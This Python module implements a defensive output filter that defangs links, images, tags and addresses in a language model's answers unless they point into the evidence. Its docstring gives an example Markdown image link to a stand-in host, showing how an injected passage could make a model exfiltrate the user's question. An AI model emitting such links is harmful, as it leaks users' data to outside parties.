"""The only place where a link or an image of an answer is let through or defanged.

What a model writes is rendered by whoever shows it, and an image is loaded without a click: a passage that makes the
model write `![x](https://elsewhere/?what-was-asked)` would send away what was asked. So only what is plainly a link
into the evidence passes as it is. Everything else that CommonMark, a linkifier or a fence that is drawn would turn into
a link, an image, a tag or a request leaves as text: brackets of Markdown behind a backslash, the `<` of a tag as
`&lt;`, addresses as `defanged` writes them. Nothing is cut out, so nothing joins.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import cached_property

from groundgraph.answers.label_gate import Gate
from groundgraph.answers.links import APART, LinkTargets, address_in, defanged, is_address

# More than this is never held back: a longer address is none of the evidence, a longer line of code is none.
_MAX_ADDRESS = 2000
_MAX_CODE = 256
_MAX_LINE = 200
_INLINE = r"[^\s()<>\\`\[\]\"']"
_DEST = rf"(?:{_INLINE}|\({_INLINE}*+\))++"
_DEST_SO_FAR = rf"<?[^\s<>\\`\[\]\"']{{0,{_MAX_ADDRESS}}}>?"
_LINK_SO_FAR = re.compile(rf"\]\({_DEST_SO_FAR}\Z")
_TO = rf"(?P<angle><)?(?P<to>{_DEST})(?(angle)(?=>[\s)])|(?=[\s)]))"
_LINK = re.compile(rf"\]\({_TO}")
_WORD = re.compile(r"\]\((?:[\w\-]++(?=[\s)])|\))")
_IMAGE = re.compile(rf"!\[(?P<text>[^\[\]`\\<!\r\n]{{0,200}})\]\({_TO}")
_IMAGE_SO_FAR = re.compile(rf"!\[[^\[\]`\\<!\r\n]{{0,200}}(?:\](?:\({_DEST_SO_FAR})?)?\Z")
_NO_IMAGE = re.compile(r"!\[[^\[\]`\\<!\r\n]{0,200}\](?!\()")
_GAP = r"[^\S\r\n]{0,99}+(?:\r\n?|\n)?+[^\S\r\n]{0,99}+"
# An address that goes on behind the longest is one that is too long, and no text.
_DEFINITION = re.compile(
    rf"\]:{_GAP}(?:<({_DEST})>|([^ \t\r\n]{{1,{_MAX_ADDRESS}}}+))(?=[^\S\r\n]{{0,99}}+(?:[\r\n\"'(]|\Z)|\S)"
)
_PROSE = re.compile(rf"\]:{_GAP}(?:[\w\-]++(?=[.,;:!?]{{0,9}}(?:\s|\Z))|[\r\n]|\Z)")
_DEFINITION_SO_FAR = re.compile(rf"\]:{_GAP}[^ \t\r\n]{{0,{_MAX_ADDRESS}}}+[^\S\r\n]{{0,99}}+\Z")
# Tags that load nothing and lead nowhere, without attributes.
_TAG = re.compile(
    r"</?(?:b|i|u|s|em|strong|sub|sup|small|mark|del|ins|q|cite|abbr|kbd|samp|var|code|br|wbr|hr|p|div|span|blockquote|"
    r"[uod]l|li|d[td]|table|caption|t(?:head|body|foot|r|h|d)|h[1-6]|details|summary) ?/?>",
    re.IGNORECASE,
)
_AUTOLINK = re.compile(rf"<(?=[^\s<>]*[:@])({_DEST})>")
_TAG_SO_FAR = re.compile(rf"<[^\s<>]{{0,{_MAX_ADDRESS}}}(?: ?/?)\Z")
_OPENS_TAG = re.compile(r"<[a-zA-Z/!?]")
_CODE = {
    "`": re.compile(r"`([^`\r\n|]{1,256})`(?!`)"),
    "``": re.compile(r"``((?:[^`\r\n|]|(?<!`)`(?!`)){1,256})``(?!`)"),
}
# What this gate writes for the bracket of a tag divides as that did.
_BRACKET = "&lt;"
_RUN = re.compile(f"(?:[^{APART}!~&]|!(?!\\[)|~(?!~~)|&(?!lt;))+")
_TICKS = re.compile(r"`+")
# What may stand before a fence, what may be one, and the rest of its line.
_LINE = re.compile(rf"([ \t>*+\-\d.)]{{0,60}})(`+|~{{3,}}|~{{0,2}}\Z)?([^\r\n]{{0,{_MAX_LINE}}})")
_LINE_END = re.compile(r"[\r\n]")
_LANGUAGE = re.compile(r"[ \t]*+([\w+#.\-]*+)[ \t]*+\Z")
_SPACE = re.compile(r"\s")
_STOP = "。"
_HOST_BEHIND = re.compile(r"[a-z0-9.。\-]{1,63}(?::\d{1,5})?/[^\s/]", re.IGNORECASE)
_HOST_SO_FAR = re.compile(r"[a-z0-9.。\-]{0,63}(?::\d{0,5})?/?\Z", re.IGNORECASE)
_BEHIND_HOST = re.compile(r"[/?]")
# What else stands behind an address, up to white space, without going on with it; or a bracket, which ends it.
_ENDS = re.compile(r"(?:[\"'”»」】）》)\]}>*_~.,;:!?…|。，]{0,16}(?=\s|\Z)|(?=[\]})>]))")
# Languages that pages draw instead of showing them.
_DRAWN = re.compile(r"mermaid|svg|x?html?|xml|mathml|(?:la)?tex|math|katex|dot|graphviz|plantuml|vega", re.IGNORECASE)


@dataclass
class LinkGate(Gate):
    """Gives a text without anything that leads away from `targets`; every beginning of it is as safe as the whole.

    Attributes:
        given: where links and images may lead, or what tells it, which is asked once something may be one.
        removed: where those led that do not any more, defanged, at most 200 characters each.
    """

    given: LinkTargets | Callable[[], LinkTargets]
    removed: list[str] = field(default_factory=list)
    # The last character that has left, and whether a backslash escapes the next one.
    _last: str = field(default="", init=False)
    _escapes: bool = field(default=False, init=False)
    _line_begins: bool = field(default=True, init=False)
    _blank: bool = field(default=True, init=False)
    # The run that opened the fence around what comes; and whether a page may draw what is in it.
    _fence: str = field(default="", init=False)
    _drawn: bool = field(default=False, init=False)
    # Set until the next blank line: what looks like code there may be none to whoever renders it. The last is set for
    # good at the first fence that need not be one.
    _in_html: bool = field(default=False, init=False)
    _unpaired: bool = field(default=False, init=False)
    _unsure: bool = field(default=False, init=False)
    # Set for good when an image may show what a reference leads to.
    _shows: bool = field(default=False, init=False)
    # Set within a run that is too long for an address of the evidence.
    _long: bool = field(default=False, init=False)

    @cached_property
    def targets(self) -> LinkTargets:
        """Where links and images may lead."""
        return self.given() if callable(self.given) else self.given

    def _passed(self, *, final: bool) -> str:
        passed, text, at = [], self._held, 0
        while at < len(text):
            decided = self._next(text, at, final)
            if decided is None:
                break
            piece, at = decided
            self._leaves(piece)
            passed.append(piece)
        self._held = text[at:]
        return "".join(passed)

    def _leaves(self, piece: str) -> None:
        if piece:
            slashes = len(piece) - len(piece.rstrip("\\"))
            self._escapes = (slashes + (self._escapes and slashes == len(piece))) % 2 == 1
            self._last = piece[-1]
            self._blank = self._blank and not piece.strip(" \t")

    def _next(self, text: str, at: int, final: bool) -> tuple[str, int] | None:
        """What leaves next of `text` from `at` on, and where that ends; nothing while more input could change it."""
        char = text[at]
        if self._line_begins:
            return self._line(text, at, final)
        if char in "\r\n":
            if self._blank:
                self._in_html = self._unpaired = False
            self._line_begins = self._blank = True
            self._long = False
            return char, at + 1
        run = _RUN.match(text, at)
        if run:
            return self._run(text, at, run.end(), final)
        self._long = False
        if text.startswith(_BRACKET, at):
            return _BRACKET, at + len(_BRACKET)
        if self._in_code:
            return char, at + 1
        if char == _STOP and self._last.isascii() and self._last.isalnum():
            return self._stop(text, at, final)
        if char in "`<!]":
            handler = {"`": self._ticks, "<": self._angle, "!": self._image, "]": self._bracket}[char]
            return handler(text, at, final)
        return char, at + 1

    def _line(self, text: str, at: int, final: bool) -> tuple[str, int] | None:
        """The beginning of a line, as far as a fence opens or closes with it."""
        found = _LINE.match(text, at)
        assert found is not None
        markers, run, info = found.groups(default="")
        is_cut = found.end() == len(text) and len(info) < _MAX_LINE
        if not final and is_cut and (len(run) >= 3 or not info):
            return None
        self._line_begins = False
        if len(run) < 3:
            return "", at
        is_fence = self._closes(markers, run, info) if self._fence else self._opens(markers, run, info)
        return (text[at : found.start(3)], found.start(3)) if is_fence else ("", at)

    def _closes(self, markers: str, run: str, info: str) -> bool:
        if not run.startswith(self._fence) or info.strip(" \t") or len(markers) > 3 or markers.strip(" "):
            return False
        self._fence = ""
        self._unpaired = False
        return True

    def _opens(self, markers: str, run: str, info: str) -> bool:
        if markers or self._unsure or self._in_html or "`" in info or len(info) == _MAX_LINE:
            self._unsure = True
            return False
        language = _LANGUAGE.match(info)
        plain = language is not None and not (_DRAWN.fullmatch(language[1]) or is_address(language[1]))
        self._fence, self._drawn = run, not plain
        return True

    @property
    def _in_code(self) -> bool:
        """Whether a fence is open in which a page shows the text as it is."""
        return bool(self._fence) and not self._drawn

    def _run(self, text: str, at: int, end: int, final: bool) -> tuple[str, int] | None:
        """What holds neither white space nor brackets: a word, or an address."""
        self._long |= end - at > _MAX_ADDRESS
        if self._long:
            return self._too_long(text, at, end, final)
        if end == len(text) and not final:
            return None
        piece, allowed, gone = self._address(text[at:end], self._last, text[end : end + 1], code=self._in_code)
        if not self._fence and _BEHIND_HOST.search(allowed):
            if not final and len(text) < end + 20 and not _SPACE.search(text, end):
                return None
            if not _ENDS.match(text, end):
                piece += " "
        self._note(gone)
        return piece, end

    def _too_long(self, text: str, at: int, end: int, final: bool) -> tuple[str, int] | None:
        if end - at < _MAX_ADDRESS and end == len(text) and not final:
            return None
        window = text[at : min(end, at + _MAX_ADDRESS)]
        apart = " " if any(char in window for char in ".:/@&\\") and len(window) == _MAX_ADDRESS else ""
        piece = defanged(window)
        if piece != window:
            self.removed.append(piece[:200])
        return piece + apart, at + len(window)

    def _address(self, run: str, before: str, after: str = "", *, code: bool) -> tuple[str, str, str]:
        """`run` as it may leave; the address in it if that is one of the evidence; and what does not pass of it."""
        # To a linkifier these are letters of the host behind them.
        joined = before in ("`", "^", "|") and not code
        if not (is_address(run, before, after, code=code) or (joined and is_address(f"x{run}"))):
            return run, "", ""
        start, end = address_in(run)
        address = run[start:end]
        joined = joined or is_address(run[:start], before, code=code)
        allowed = "" if joined else self.targets.allowed_part(address)
        if allowed:
            return run[:start] + allowed + run[end:], allowed, address if allowed != address else ""
        piece = defanged(run)
        return piece, "", run.strip("()*_'~,;.!?") if piece != run else ""

    def _ticks(self, text: str, at: int, final: bool) -> tuple[str, int] | None:
        found = _TICKS.match(text, at)
        assert found is not None
        ticks = found.group()
        if found.end() == len(text) and not final:
            return None
        pattern = self._code_in(ticks)
        if pattern:
            code = pattern.match(text, at)
            end = code.end() if code else at + _MAX_CODE
            if not final and len(text) <= end and not _LINE_END.search(text, at):
                return None
            if code:
                return ticks + _RUN.sub(self._within_code, code[1]) + ticks, code.end()
        self._unpaired = True
        return ticks, found.end()

    def _code_in(self, ticks: str) -> re.Pattern[str] | None:
        """What code within `ticks` looks like; None where whoever renders the text may take that for no code."""
        doubtful = self._escapes or self._unsure or self._in_html or self._unpaired or self._fence
        return None if doubtful else _CODE.get(ticks)

    def _within_code(self, run: re.Match[str]) -> str:
        before = run.string[run.start() - 1] if run.start() else ""
        piece, _, gone = self._address(run.group(), before, code=True)
        self._note(gone)
        return piece

    def _stop(self, text: str, at: int, final: bool) -> tuple[str, int] | None:
        """An ideographic full stop: the dot of a host where an address goes on behind it."""
        host = _HOST_BEHIND.match(text, at + 1)
        if host is None:
            return (_STOP, at + 1) if final or not _HOST_SO_FAR.match(text, at + 1) else None
        self.removed.append(f"[{_STOP}]{host.group()}")
        return f"[{_STOP}]", at + 1

    def _angle(self, text: str, at: int, final: bool) -> tuple[str, int] | None:
        tag = _TAG.match(text, at)
        if tag:
            self._in_html = True
            return tag.group(), tag.end()
        link = _AUTOLINK.match(text, at)
        if link and (allowed := self._allowed(link[1])):
            return f"<{allowed}>", link.end()
        if not final and _TAG_SO_FAR.match(text, at):
            return None
        return (_BRACKET if _OPENS_TAG.match(text, at) else "<"), at + 1

    def _image(self, text: str, at: int, final: bool) -> tuple[str, int] | None:
        """`![`; `!` elsewhere is part of a run."""
        if self._escapes:
            return "!", at + 1
        found = _IMAGE.match(text, at)
        if found is None:
            if not final and _IMAGE_SO_FAR.match(text, at):
                return None
            text_only = _NO_IMAGE.match(text, at)
            if text_only is None or self._leads(text_only.group()):
                return "\\!", at + 1
            self._shows |= bool(re.search(r"\w", text_only.group()))
            return "!", at + 1
        if not self._leads(found["text"]) and (allowed := self._allowed(found["to"], image=True)):
            return text[at : found.start("to")] + allowed, found.end()
        if self.targets.allowed_part(found["to"]):
            self._note(found["to"])
        return "\\!", at + 1

    def _allowed(self, target: str, *, image: bool = False) -> str:
        """As much of `target` as may be linked to; what does not pass of it is noted."""
        allowed = self.targets.allowed_part(target, image=image)
        if allowed and allowed != target:
            self._note(target)
        return allowed

    def _leads(self, text: str) -> bool:
        return any(is_address(run, "[") for run in re.split(f"[{APART}]+", text))

    def _bracket(self, text: str, at: int, final: bool) -> tuple[str, int] | None:
        follows = text[at + 1 : at + 2]
        if follows == "(":
            return self._inline_link(text, at, final)
        if follows == ":":
            return self._definition(text, at, final)
        return None if not follows and not final else ("]", at + 1)

    def _inline_link(self, text: str, at: int, final: bool) -> tuple[str, int] | None:
        found = _LINK.match(text, at)
        if found and (allowed := self._allowed(found["to"])):
            return text[at : found.start("to")] + allowed, found.end()
        if _WORD.match(text, at):
            return "](", at + 2
        if not found and not final and _LINK_SO_FAR.match(text, at):
            return None
        if found and not is_address(found["to"]):
            self._note(found["to"])
        return "]\\(", at + 2

    def _definition(self, text: str, at: int, final: bool) -> tuple[str, int] | None:
        """What a reference leads to, and an image may refer to it too."""
        if not final and _DEFINITION_SO_FAR.match(text, at):
            return None
        found = _DEFINITION.match(text, at)
        if not found:
            # Until more than that has come, it leads to the first that stands there.
            return ("]:" if _PROSE.match(text, at) and not self._shows else "]\\:"), at + 2
        target = found[1] or found[2]
        if re.fullmatch(_DEST, target) and self.targets.allowed_part(target, image=True) == target:
            return found.group(), found.end()
        return "]\\:", at + 2

    def _note(self, target: str) -> None:
        if target:
            self.removed.append(defanged(target)[:200])
